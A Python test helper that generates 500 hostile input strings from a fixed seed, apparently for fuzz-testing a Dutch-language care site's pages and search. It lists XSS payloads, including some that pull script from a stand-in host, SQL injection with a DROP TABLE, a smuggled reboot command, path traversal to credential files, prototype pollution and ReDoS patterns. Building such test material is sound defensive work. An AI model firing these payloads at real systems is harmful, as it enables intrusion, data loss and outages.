"""Texts that somebody types to break a page, made from a fixed seed."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from urllib.parse import quote

SEED = 18
NUMBER = 500
STRIKE = "alert(window.struck=1)"

_MARKUP = (
    f"<script>{STRIKE}</script>",
    f"<ScRiPt src=//hostile.invalid/x.js>{STRIKE}</sCrIpT>",
    f"<img src=x onerror={STRIKE}>",
    f"<svg/onload={STRIKE}>",
    f"<svg><script>{STRIKE}</script><use href=//hostile.invalid/x.svg#x></svg>",
    f"\"><img src=x onerror='{STRIKE}'>",
    f"'-{STRIKE}-'",
    f"</title></textarea></template></script><script>{STRIKE}</script>",
    f"<iframe srcdoc='<script>parent.{STRIKE}</script>'></iframe>",
    f"<a href=javascript:{STRIKE}>pleegzorg</a>",
    f"<details open ontoggle={STRIKE}>",
    f"<input autofocus onfocus={STRIKE}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={STRIKE}></style></mglyph></table></mtext></math>",
    "<style>@import 'http://hostile.invalid/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=//hostile.invalid/x.css><base href=//hostile.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://hostile.invalid/'>",
    "<form action=http://hostile.invalid/><button>Bel 112</button></form>",
    "<object data=//hostile.invalid/x></object><embed src=//hostile.invalid/x>",
    "<!--",
    "]]><![CDATA[",
    "<b>Turnhout</b>",
)
_CODE = (
    f"javascript:{STRIKE}",
    f"JaVaScRiPt\t:{STRIKE}//",
    f"data:text/html,<script>{STRIKE}</script>",
    "{{7*7}}",
    "${7*7}",
    "{% raw %}@@helder:title@@",
    "<%= 7*7 %>",
    f"{{{{constructor.constructor('{STRIKE}')()}}}}",
    "' OR 1=1 --",
    "'; DROP TABLE diensten; --",
    "$(reboot)`reboot`",
)
_NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString valueOf",
    "__proto__[struck]=1&constructor[prototype][struck]=1",
    "null undefined NaN",
    "length size keys",
)
_PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fmanifest.sha256",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "//hostile.invalid/x",
    "/zoeken/kaarten/../../x.json?x=1#x",
)
_ESCAPES = (
    "%",
    "%zz%",
    "%00",
    "%E0%A4%A",
    "%25%33%43script",
    "&#60;img src=x&#62;",
    "&lt;script&gt;",
    "\\u003cb\\u003e",
)
_BOMBS = (
    "a" * 10_000,
    "school" * 1_700,
    "a b " * 2_500,
    " " * 10_000 + "x",
    "-" * 10_000 + "!",
    "9" * 10_000,
    "van 14 jaar " * 800,
    "(a+)+$" + "a" * 40 + "!",
    "(.*)*[",
    "e\u0301\u0327" * 3_000,
)
_MARKS = (
    "\u202egroz geelp",
    "ple\u200beg\u00adzo\u200drg",
    "\ufeff\u2066pleegzorg\u2069",
    "\x00\x07\x1b[31m",
    "\u2028\u2029\n\r",
    "\ud800",
    "pleeg\udc00zorg",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0062\U000e0065",
    "\U0001f62d" * 200,
    "İSTANBUL ﬃ ẞ ŉ",
    "١٤ سنة مدرسة",
)
_OURS = ("zelfmoord", "mijn zoon wil niet meer naar school", "pleegzorg in geel", "2300", "voor mijn dochter van 14")
_BASES = (*_MARKUP, *_CODE, *_NAMES, *_PATHS, *_ESCAPES, *_BOMBS, *_MARKS)


def hostile_strings() -> list[str]:
    """All of them, each once: first every base as it is, then bases in other words, escaped, and two at a time."""
    found = dict.fromkeys(_BASES)
    varied = _varied(Random(SEED))
    while len(found) < NUMBER:
        found[next(varied)] = None
    return list(found)


def _varied(chance: Random) -> Iterator[str]:
    while True:
        base, other, ours = chance.choice(_BASES), chance.choice(_BASES), chance.choice(_OURS)
        escaped = quote(base, errors="replace")
        forms = (f"{ours} {base}", f"{base} {ours}", f"{ours}{base}{ours}", base.upper(), escaped, base + other)
        yield chance.choice(forms)
